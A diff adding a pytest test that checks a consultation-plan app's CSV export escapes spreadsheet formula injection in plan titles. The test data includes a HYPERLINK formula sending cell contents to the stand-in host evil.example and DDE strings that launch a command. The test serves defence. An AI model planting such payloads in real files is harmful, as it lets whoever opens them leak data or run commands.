@@ -1,6 +1,10 @@
 """The annual consultation plan: officers write it, the public reads it and downloads CSV,
 consultations link to their entry, and one left out of its year's plan is flagged."""
 
+import csv
+import io
+
+import pytest
 from sqlalchemy import select
 
 from consult.consultations.models import PlanEntry
@@ -58,3 +62,26 @@ def test_a_plan_entry_needs_a_title(app, client, login):
 def test_plan_pages_refuse_impossible_years(client):
     assert client.get("/plan/99999").status_code == 404
     assert client.get("/plan/2026").status_code == 200
+
+
+@pytest.mark.parametrize(
+    "title",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"Shiko")',
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+    ids=["equals", "plus", "minus", "at", "tab", "carriage return"],
+)
+def test_a_plan_title_that_looks_like_a_formula_is_plain_text_in_the_csv(app, client, title):
+    """A spreadsheet opening the CSV runs a cell that starts with = + - @ tab or CR as a
+    formula: such a title gets a leading apostrophe, as every other export does."""
+    with app.app_context():
+        db.session.add(PlanEntry(year=2026, title={"sq": title}, quarter=1, kind="survey"))
+        db.session.commit()
+    response = client.get("/plan/2026.csv?lang=sq")
+    (row,) = list(csv.reader(io.StringIO(response.get_data(as_text=True))))[1:]
+    assert row[4] == "'" + title
